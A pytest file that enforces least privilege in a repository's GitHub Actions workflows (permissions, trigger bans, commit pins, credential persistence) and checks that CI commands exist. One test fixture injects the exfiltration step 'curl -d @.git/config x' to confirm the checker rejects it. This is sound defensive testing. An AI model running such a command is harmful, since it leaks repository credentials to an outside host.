"""CI configuration (issue 7.6): the workflows and the pre-commit config parse,
have the expected triggers and jobs, and every command they run exists in the
repository (scripts, make targets, `python -m tools` subcommands, schemas).

Least privilege (issue 18.6): nothing is granted at the top of a workflow;
a job that checks out the repository (and so runs editors' content) may only
read it and keeps no credentials; write permissions only in jobs that run no
repository code; pull requests (forks too) never run with `pull_request_target`
and use no secrets; actions are pinned by commit."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
import yaml

from tools.cli import COMMANDS

ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS = ROOT / ".github" / "workflows"


def load(path: Path) -> dict:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict), f"{path}: not a YAML mapping"
    return data


def triggers(workflow: dict) -> dict:
    # PyYAML reads the bare key `on` as the boolean True (YAML 1.1).
    on = workflow.get("on", workflow.get(True))
    return {on: None} if isinstance(on, str) else dict(on or {})


def make_targets() -> set[str]:
    text = (ROOT / "Makefile").read_text(encoding="utf-8")
    return {m.group(1) for m in re.finditer(r"^([A-Za-z0-9_.-]+)\s*:(?!=)", text, re.MULTILINE)}


def steps(workflow: dict) -> list[dict]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def command_problems(script: str, where: str) -> list[str]:
    """Commands in a `run:` script (or hook entry) that do not exist in the repo."""
    problems = []
    targets = make_targets()
    for line in script.splitlines():
        line = line.split(" #", 1)[0].strip()
        if not line or line.startswith("#"):
            continue
        for part in re.split(r"&&|\|\||;|\|", line):
            words = shlex.split(part.replace("$", "_"))  # variables do not matter here
            if not words:
                continue
            if words[0] in ("bash", "sh") and len(words) > 1 and not (ROOT / words[1]).is_file():
                problems.append(f"{where}: script {words[1]} does not exist")
            if words[0] == "make":
                for target in [w for w in words[1:] if not w.startswith("-") and "=" not in w]:
                    if target not in targets:
                        problems.append(f"{where}: make target '{target}' not in Makefile")
            if words[0].endswith("python") and words[1:3] == ["-m", "tools"]:
                sub = words[3] if len(words) > 3 else None
                if sub not in COMMANDS:
                    problems.append(f"{where}: 'python -m tools {sub}' is not a subcommand in tools/cli.py")
            if words[0].startswith("./") or (words[0].startswith(".") and "/" in words[0]
                                              and not words[0].startswith(".venv/")):
                if not (ROOT / words[0]).exists():
                    problems.append(f"{where}: {words[0]} does not exist")
    return problems


@pytest.fixture(scope="module")
def pr() -> dict:
    return load(WORKFLOWS / "pr.yml")


@pytest.fixture(scope="module")
def deploy() -> dict:
    return load(WORKFLOWS / "deploy.yml")


def test_pr_runs_the_local_ci_script_on_every_pull_request(pr):
    assert "pull_request" in triggers(pr)
    runs = [step.get("run", "") for step in steps(pr)]
    assert any(run.strip() == "bash .ci/run" for run in runs), runs
    checkout = next(s for s in steps(pr) if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout.get("with", {}).get("fetch-depth") == 0, "git dates need the full history"


def test_pr_uploads_the_site_and_the_offline_zip(pr):
    uploads = [s for s in steps(pr) if s.get("uses", "").startswith("actions/upload-artifact@")]
    paths = {str(s["with"]["path"]).rstrip("/") for s in uploads}
    assert {"site", "dist/guide-offline.zip"} <= paths
    offline = next(s for s in uploads if s["with"]["path"] == "dist/guide-offline.zip")
    assert offline["with"].get("if-no-files-found") == "ignore"
    # The site artefact must be built before it is uploaded.
    names = [s.get("run", s.get("uses", "")) for s in steps(pr)]
    build = next(i for i, n in enumerate(names) if re.search(r"make build|tools (build|release)", n))
    site_upload = next(i for i, s in enumerate(steps(pr)) if s in uploads and str(s["with"]["path"]).startswith("site"))
    assert build < site_upload


def test_deploy_publishes_main_to_pages_with_site_url(deploy):
    on = triggers(deploy)
    assert "main" in on["push"]["branches"]
    jobs = deploy["jobs"]
    assert set(jobs) == {"pages", "build", "deploy"}
    uses = [s.get("uses", "") for s in steps(deploy)]
    assert any(u.startswith("actions/upload-pages-artifact@") for u in action_uses(jobs["build"]))
    assert [u.split("@")[0] for u in action_uses(jobs["deploy"])] == ["actions/deploy-pages"]
    assert [u.split("@")[0] for u in action_uses(jobs["pages"])] == ["actions/configure-pages"]
    build = next(s for s in jobs["build"]["steps"] if "run" in s and re.search(r"make build|tools (build|release)", s["run"]))
    assert "needs.pages.outputs.base_url" in build["env"]["SITE_URL"]
    assert jobs["pages"]["outputs"]["base_url"] == "${{ steps.pages.outputs.base_url }}"
    assert any(u.startswith("actions/configure-pages@") for u in uses)
    assert jobs["build"]["needs"] == "pages" and jobs["deploy"]["needs"] == "build"
    # Only the deploy job may write to Pages; the build job only reads.
    assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert jobs["build"]["permissions"] == {"contents": "read"}
    assert jobs["pages"]["permissions"] == {"pages": "read"}


# --- least privilege (issue 18.6) ----------------------------------------------

ALL = sorted(p.name for p in WORKFLOWS.glob("*.yml"))
WRITE_JOB_ACTIONS = {"actions/deploy-pages"}  # what a job with write permissions may run
SHA_PIN = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")


def action_uses(job: dict) -> list[str]:
    return [s["uses"] for s in job.get("steps", []) if "uses" in s]


def runs_repository_code(job: dict) -> bool:
    """A job runs repository code if it checks out the repository or runs a
    command (a job without a checkout could still fetch it in a `run`), or
    uses an action from the repository itself (./...)."""
    return any("run" in s or s.get("uses", "").startswith(("actions/checkout@", "./")) for s in job.get("steps", []))


def grants(permissions) -> dict:
    if permissions in (None, {}):
        return {}
    if isinstance(permissions, str):  # read-all / write-all
        return {"*": permissions.split("-")[0]}
    return dict(permissions)


def privilege_problems(workflow: dict, name: str) -> list[str]:
    problems = []
    on = triggers(workflow)
    for trigger in ("pull_request_target", "workflow_run"):
        if trigger in on:
            problems.append(f"{name}: triggered by {trigger} (runs a fork's code with the base repository's rights)")
    if grants(workflow.get("permissions", "missing")) != {}:
        problems.append(f"{name}: top-level permissions {workflow.get('permissions')!r}; grant nothing there, "
                        "per job only what it needs")
    for job_name, job in workflow["jobs"].items():
        where = f"{name} job {job_name}"
        if "permissions" not in job:
            problems.append(f"{where}: no permissions of its own")
            continue
        granted = grants(job["permissions"])
        writes = sorted(k for k, v in granted.items() if v == "write")
        if runs_repository_code(job):
            if granted != {"contents": "read"}:
                problems.append(f"{where}: runs repository code with permissions {granted} (only contents: read)")
        if writes and (runs_repository_code(job)
                       or any(u.split("@")[0] not in WRITE_JOB_ACTIONS for u in action_uses(job))):
            problems.append(f"{where}: {', '.join(writes)} write in a job that runs more than "
                            f"{sorted(WRITE_JOB_ACTIONS)}")
        for step in job.get("steps", []):
            uses = step.get("uses", "")
            if uses.startswith("actions/checkout@") and (step.get("with") or {}).get("persist-credentials") is not False:
                problems.append(f"{where}: actions/checkout without persist-credentials: false")
            if uses and not uses.startswith("./") and not SHA_PIN.fullmatch(uses):
                problems.append(f"{where}: {uses} is not pinned by commit")
    return problems


@pytest.mark.parametrize("name", ALL)
def test_workflow_has_least_privilege(name):
    assert privilege_problems(load(WORKFLOWS / name), name) == []


def test_all_three_workflows_are_checked():
    assert {"pr.yml", "deploy.yml", "zensical.yml"} <= set(ALL)


def test_privilege_checker_catches_each_problem():
    """The checker itself fails on each thing it is there to refuse."""
    checkout = {"uses": "actions/checkout@" + "a" * 40, "with": {"persist-credentials": False}}
    good = {"on": {"pull_request": None}, "permissions": {},
            "jobs": {"build": {"permissions": {"contents": "read"}, "steps": [checkout, {"run": "make build"}]},
                     "deploy": {"permissions": {"pages": "write", "id-token": "write"},
                                "steps": [{"uses": "actions/deploy-pages@" + "b" * 40}]}}}
    assert privilege_problems(good, "w") == []

    def broken(change) -> list[str]:
        workflow = yaml.safe_load(yaml.safe_dump(good))
        change(workflow)
        return privilege_problems(workflow, "w")

    assert broken(lambda w: w["on"].update(pull_request_target=None))
    assert broken(lambda w: w.update(permissions={"contents": "read", "pages": "write"}))
    assert broken(lambda w: w.update(permissions="write-all"))
    assert broken(lambda w: w.pop("permissions"))
    assert broken(lambda w: w["jobs"]["build"].pop("permissions"))
    assert broken(lambda w: w["jobs"]["build"].update(permissions={"contents": "write"}))
    assert broken(lambda w: w["jobs"]["build"]["permissions"].update({"id-token": "write"}))
    assert broken(lambda w: w["jobs"]["build"]["steps"][0]["with"].pop("persist-credentials"))
    assert broken(lambda w: w["jobs"]["build"]["steps"][0].update(uses="actions/checkout@v4"))
    assert broken(lambda w: w["jobs"]["deploy"]["steps"].insert(0, dict(checkout)))
    assert broken(lambda w: w["jobs"]["deploy"]["steps"].append({"run": "curl -d @.git/config x"}))
    assert broken(lambda w: w["jobs"]["deploy"]["steps"].append({"uses": "someone/else@" + "c" * 40}))


@pytest.mark.parametrize("name", ALL)
def test_pins_name_their_version(name):
    """Each commit pin says which release it is (Renovate updates both)."""
    for line in (WORKFLOWS / name).read_text(encoding="utf-8").splitlines():
        if re.search(r"\buses:\s", line):
            assert re.search(r"@[0-9a-f]{40}\s+# v\d+\.\d+\.\d+\s*$", line), f"{name}: {line.strip()}"


def test_pull_requests_get_no_secrets_and_no_injected_text(pr):
    text = (WORKFLOWS / "pr.yml").read_text(encoding="utf-8")
    assert "pull_request" in triggers(pr) and "pull_request_target" not in triggers(pr)
    assert "secrets." not in text
    # Text a pull request's author controls never goes into a shell command.
    for step in steps(pr):
        assert not re.search(r"\$\{\{\s*github\.(event|head_ref)", step.get("run", "")), step


@pytest.mark.parametrize("name", ["pr.yml", "deploy.yml"])
def test_every_run_command_exists(name):
    problems = []
    for i, step in enumerate(steps(load(WORKFLOWS / name))):
        if "run" in step:
            problems += command_problems(step["run"], f"{name} step {i + 1} ({step.get('name', '')})")
    assert problems == []


def test_command_checker_catches_missing_things():
    # The checker itself must fail on commands that do not exist.
    found = command_problems("bash .ci/nope\nmake deploy-everything\n.venv/bin/python -m tools frobnicate",
                             "example")
    assert len(found) == 3, found


def test_pre_commit_config():
    config = load(ROOT / ".pre-commit-config.yaml")
    repos = config["repos"]
    hooks = {hook["id"]: (repo, hook) for repo in repos for hook in repo["hooks"]}
    assert {"trailing-whitespace", "end-of-file-fixer", "check-jsonschema", "parity"} <= set(hooks)
    for repo in repos:
        if repo["repo"] == "local":
            for hook in repo["hooks"]:
                assert command_problems(hook["entry"], f"pre-commit hook {hook['id']}") == []
                assert "python -m tools" in hook["entry"] or Path(ROOT / hook["entry"].split()[0]).exists()
        else:
            assert re.fullmatch(r"v?\d+(\.\d+)+", str(repo["rev"])), f"{repo['repo']}: pin a release tag"
    # Each schema hook points at a schema that exists and a data file that exists.
    for repo in repos:
        for hook in repo["hooks"]:
            if hook["id"] == "check-jsonschema":
                schema = hook["args"][hook["args"].index("--schemafile") + 1]
                assert (ROOT / schema).is_file(), f"{hook['name']}: {schema} missing"
                target = hook["files"].strip("^$").replace("\\.", ".")
                assert (ROOT / target).is_file(), f"{hook['name']}: {target} missing"


@pytest.mark.slow
def test_schema_hooks_pass_on_the_current_data():
    # What the check-jsonschema hooks will do, with the pinned jsonschema library:
    # the mapping of data file -> schema in the config is right and the data validates.
    import json

    import jsonschema

    config = load(ROOT / ".pre-commit-config.yaml")
    checked = []
    for repo in config["repos"]:
        for hook in repo["hooks"]:
            if hook["id"] != "check-jsonschema":
                continue
            schema = json.loads((ROOT / hook["args"][hook["args"].index("--schemafile") + 1]).read_text(encoding="utf-8"))
            target = ROOT / hook["files"].strip("^$").replace("\\.", ".")
            validator = jsonschema.validators.validator_for(schema)(schema)
            errors = [e.message for e in validator.iter_errors(yaml.safe_load(target.read_text(encoding="utf-8")))]
            assert errors == [], f"{target.name}: {errors[:3]}"
            checked.append(target.name)
    # Every data file has a schema hook.
    assert sorted(checked) == sorted(p.name for p in (ROOT / "data").glob("*.yml"))


def test_pr_keeps_the_layout_contact_sheet_even_when_tests_fail(pr):
    # tests/test_layout.py writes it; a person reviews the whole site from it.
    uploads = [s for s in steps(pr) if s.get("uses", "").startswith("actions/upload-artifact@")]
    sheet = [s for s in uploads if str(s["with"]["path"]).rstrip("/") == "test-artifacts/layout"]
    assert sheet and sheet[0].get("if") == "always()"
    tests = next(i for i, s in enumerate(steps(pr)) if "bash .ci/run" in str(s.get("run", "")))
    assert steps(pr).index(sheet[0]) > tests
